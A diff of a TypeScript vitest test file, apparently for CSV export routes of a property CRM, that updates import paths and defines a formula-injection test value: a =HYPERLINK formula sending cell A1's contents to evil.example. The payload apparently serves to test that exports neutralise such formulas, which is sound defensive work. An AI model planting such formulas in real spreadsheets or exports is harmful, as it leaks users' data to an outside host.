@@ -1,10 +1,10 @@
 import { describe, expect, it } from "vitest";
 
-import { action as createProperty } from "~/routes/api.properties";
-import { loader as crmExport } from "~/routes/crm.export[.csv]";
-import { loader as dashboardExport } from "~/routes/dashboard.export[.csv]";
+import { action as createProperty } from "#app/routes/api.properties.ts";
+import { loader as crmExport } from "#app/routes/crm.export[.csv].ts";
+import { loader as dashboardExport } from "#app/routes/dashboard.export[.csv].ts";
 
-import { registerClient } from "./api-client";
+import { registerClient } from "./api-client.ts";
 
 // Addresses a hostile import or a shared lead list could carry: spreadsheets run each one as a formula.
 const HYPERLINK = `=HYPERLINK("https://evil.example/?leak="&A1,"Open")`;
